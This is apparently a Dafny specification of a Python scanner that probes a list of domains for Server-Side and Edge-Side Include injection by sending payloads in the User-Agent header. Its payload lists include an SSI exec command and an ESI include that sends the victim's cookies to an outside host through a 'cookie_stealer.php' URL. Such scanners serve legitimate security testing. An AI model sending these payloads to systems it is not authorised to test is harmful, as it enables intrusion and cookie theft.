/**
 * ssi_esi.py: every domain of a list is probed with a fixed set of
 * Server-Side Include and Edge-Side Include payloads sent as the
 * `User-Agent`; a payload echoed back in a 200 response is logged as a
 * finding, one line per finding.
 */
module SsiEsi {
  import opened Text
  import opened Probe

  /** The Server-Side Include payloads, in the order they are sent. */
  const SsiPayloads: seq<string> := [
    "<!--#echo var=\"DOCUMENT_NAME\" -->",
    "<!--#echo var=\"DATE_LOCAL\" -->",
    "<!--#include virtual=\"/cgi-bin/counter.pl\" -->",
    "<!--#flastmod file=\"index.html\" -->",
    "<!--#exec cmd=\"ls\" -->",
    "<!--#printenv -->",
    "<!--#set var=\"name\" value=\"Rich\" -->"
  ]

  /** The Edge-Side Include payloads, in the order they are sent. */
  const EsiPayloads: seq<string> := [
    "hell<!--esi-->o",
    "<esi:include src=http://alejandro.com/>",
    "<esi:include src=http://alejandro.com/?cookie_stealer.php?=$(HTTP_COOKIE)>",
    "<esi:include src=\"supersecret.txt\">",
    "<esi:debug/>"
  ]

  /** `load_domains`: the stripped, non-blank lines of the input file, in file order. */
  function LoadDomains(content: string): (domains: seq<string>)
    ensures forall k :: 0 <= k < |domains| ==> domains[k] != "" && IsTrimmed(domains[k]) && '\n' !in domains[k]
    ensures forall d :: d in domains <==> exists l :: l in Lines(content) && Trim(l) == d && d != ""
  {
    EntriesShape(Lines(content), false);
    forall d ensures d in Entries(Lines(content), false) <==> exists l :: l in Lines(content) && Trim(l) == d && d != "" {
      EntriesMembers(Lines(content), false, d);
    }
    Entries(Lines(content), false)
  }

  /** A list written one domain per line loads back as itself. */
  lemma LoadDomainsOfWritten(domains: seq<string>)
    requires forall k :: 0 <= k < |domains| ==> domains[k] != "" && IsTrimmed(domains[k]) && '\n' !in domains[k]
    ensures LoadDomains(Join(domains, "\n")) == domains
  {
    EntriesOfJoined(domains, false);
  }

  /** Python's `str(port)` for the optional `--port` argument: `None` when it is omitted. */
  function PortText(port: Option<int>): string {
    if port.None? then "None" else IntToString(port.value)
  }

  /**
   * `prepare_url`: the default port of the URL's scheme (443 for `https://`
   * and for a bare domain, 80 for `http://`) is left implicit; any other
   * value, an omitted port included, is appended as `:port`.
   */
  function PrepareUrl(domain: string, port: Option<int>): (url: string)
    ensures HasScheme(url)
    ensures StartsWith(domain, "https://") ==>
      url == if port == Some(443) then domain else domain + ":" + PortText(port)
    ensures !StartsWith(domain, "https://") && StartsWith(domain, "http://") ==>
      url == if port == Some(80) then domain else domain + ":" + PortText(port)
    ensures !HasScheme(domain) ==>
      url == "https://" + domain + (if port == Some(443) then "" else ":" + PortText(port))
  {
    if StartsWith(domain, "https://") then
      if port != Some(443) then
        assert domain == "https://" + domain[8..];
        "https://" + domain[8..] + ":" + PortText(port)
      else domain
    else if StartsWith(domain, "http://") then
      if port != Some(80) then
        assert domain == "http://" + domain[7..];
        "http://" + domain[7..] + ":" + PortText(port)
      else domain
    else
      assert ("https://" + domain)[..8] == "https://";
      if port != Some(443) then "https://" + domain + ":" + PortText(port) else "https://" + domain
  }

  /** Without `--port`, every URL ends in `:None`. */
  lemma OmittedPortAppendsNone(domain: string)
    ensures PrepareUrl(domain, None) == WithScheme(domain) + ":None"
  {
  }

  /** Preparing a prepared URL again appends a non-default port a second time. */
  lemma PrepareUrlNotIdempotent(domain: string, port: Option<int>)
    requires port != Some(443) && port != Some(80)
    ensures PrepareUrl(PrepareUrl(domain, port), port) == PrepareUrl(domain, port) + ":" + PortText(port)
  {
  }

  /** A payload counts as reflected: a 200 response whose body contains it. */
  predicate Detected(reply: Reply, payload: string) {
    reply.Response? && reply.status == 200 && Contains(reply.text, payload)
  }

  /** `log_vulnerability`'s line, without its newline. */
  function FindingLine(url: string, kind: string, payload: string): string {
    "[" + url + "] Potential " + kind + " vulnerability detected using payload: " + payload
  }

  /**
   * The findings of one payload loop: one line per payload, in order, for
   * the payloads the server reflects. `respond(url, p)` is the reply to a
   * request for `url` with `p` as the `User-Agent`.
   */
  function Findings(url: string, kind: string, payloads: seq<string>, respond: (string, string) -> Reply): (lines: seq<string>)
    ensures |lines| <= |payloads|
    decreases |payloads|
  {
    if payloads == [] then []
    else
      var p := payloads[|payloads| - 1];
      Findings(url, kind, payloads[..|payloads| - 1], respond) +
        (if Detected(respond(url, p), p) then [FindingLine(url, kind, p)] else [])
  }

  /** A finding line is written exactly for a reflected payload. */
  lemma {:induction false} FindingsMembers(url: string, kind: string, payloads: seq<string>,
                                           respond: (string, string) -> Reply, line: string)
    ensures line in Findings(url, kind, payloads, respond) <==>
      exists p :: p in payloads && Detected(respond(url, p), p) && line == FindingLine(url, kind, p)
    decreases |payloads|
  {
    if payloads != [] {
      var init := payloads[..|payloads| - 1];
      var p := payloads[|payloads| - 1];
      FindingsMembers(url, kind, init, respond, line);
      assert payloads == init + [p];
    }
  }

  /**
   * `test_ssi_vulnerabilities` / `test_esi_vulnerabilities`: each payload is
   * sent in turn and each finding appends its line to the log, modelled as
   * the sequence of lines written to it.
   */
  method TestPayloads(url: string, kind: string, payloads: seq<string>,
                      respond: (string, string) -> Reply, log: seq<string>) returns (log': seq<string>)
    ensures log' == log + Findings(url, kind, payloads, respond)
  {
    log' := log;
    var i := 0;
    while i < |payloads|
      invariant 0 <= i <= |payloads|
      invariant log' == log + Findings(url, kind, payloads[..i], respond)
    {
      var payload := payloads[i];
      assert payloads[..i + 1][..i] == payloads[..i];
      if Detected(respond(url, payload), payload) {
        log' := log' + [FindingLine(url, kind, payload)];
      }
      i := i + 1;
    }
    assert payloads[..|payloads|] == payloads;
  }

  /** What one domain adds to the log: its SSI findings, then its ESI findings. */
  function DomainLog(domain: string, port: Option<int>, respond: (string, string) -> Reply): seq<string> {
    var url := PrepareUrl(domain, port);
    Findings(url, "SSI", SsiPayloads, respond) + Findings(url, "ESI", EsiPayloads, respond)
  }

  /** What a whole run adds to the log, domain by domain. */
  function ScanLog(domains: seq<string>, port: Option<int>, respond: (string, string) -> Reply): seq<string>
    decreases |domains|
  {
    if domains == [] then []
    else ScanLog(domains[..|domains| - 1], port, respond) + DomainLog(domains[|domains| - 1], port, respond)
  }

  /** `main`: every loaded domain is prepared and tested for SSI, then for ESI. */
  method Scan(domains: seq<string>, port: Option<int>, respond: (string, string) -> Reply, log: seq<string>)
    returns (log': seq<string>)
    ensures log' == log + ScanLog(domains, port, respond)
  {
    log' := log;
    var i := 0;
    while i < |domains|
      invariant 0 <= i <= |domains|
      invariant log' == log + ScanLog(domains[..i], port, respond)
    {
      ghost var prev := log';
      log' := TestDomain(domains[i], port, respond, log');
      ScanLogExtend(domains, i, port, respond, log, prev, log');
      i := i + 1;
    }
    assert domains[..|domains|] == domains;
  }

  lemma ScanLogStep(domains: seq<string>, i: nat, port: Option<int>, respond: (string, string) -> Reply)
    requires i < |domains|
    ensures ScanLog(domains[..i + 1], port, respond) == ScanLog(domains[..i], port, respond) + DomainLog(domains[i], port, respond)
  {
    assert domains[..i + 1][..i] == domains[..i];
  }

  lemma ScanLogExtend(domains: seq<string>, i: nat, port: Option<int>, respond: (string, string) -> Reply,
                      log: seq<string>, log1: seq<string>, log2: seq<string>)
    requires i < |domains|
    requires log1 == log + ScanLog(domains[..i], port, respond)
    requires log2 == log1 + DomainLog(domains[i], port, respond)
    ensures log2 == log + ScanLog(domains[..i + 1], port, respond)
  {
    ScanLogStep(domains, i, port, respond);
  }

  /** One iteration of `main`'s loop. */
  method TestDomain(domain: string, port: Option<int>, respond: (string, string) -> Reply, log: seq<string>)
    returns (log': seq<string>)
    ensures log' == log + DomainLog(domain, port, respond)
  {
    var fullUrl := PrepareUrl(domain, port);
    log' := TestPayloads(fullUrl, "SSI", SsiPayloads, respond, log);
    log' := TestPayloads(fullUrl, "ESI", EsiPayloads, respond, log');
  }

  /** Each finding is one line of the log: the log reads back as its findings. */
  lemma FindingsReadBack(url: string, kind: string, payloads: seq<string>, respond: (string, string) -> Reply)
    requires '\n' !in url && '\n' !in kind
    requires forall k :: 0 <= k < |payloads| ==> '\n' !in payloads[k]
    ensures Lines(Concat(Findings(url, kind, payloads, respond), "\n")) == Findings(url, kind, payloads, respond)
  {
    var lines := Findings(url, kind, payloads, respond);
    forall k | 0 <= k < |lines| ensures '\n' !in lines[k] {
      FindingsMembers(url, kind, payloads, respond, lines[k]);
      var p :| p in payloads && Detected(respond(url, p), p) && lines[k] == FindingLine(url, kind, p);
      FindingLineOneLine(url, kind, p);
    }
    LinesOfWritten(lines);
  }

  /** A finding line built from newline-free parts holds no newline. */
  lemma FindingLineOneLine(url: string, kind: string, payload: string)
    requires '\n' !in url && '\n' !in kind && '\n' !in payload
    ensures '\n' !in FindingLine(url, kind, payload)
  {
    assert '\n' !in "[" && '\n' !in "] Potential " && '\n' !in " vulnerability detected using payload: ";
  }
}
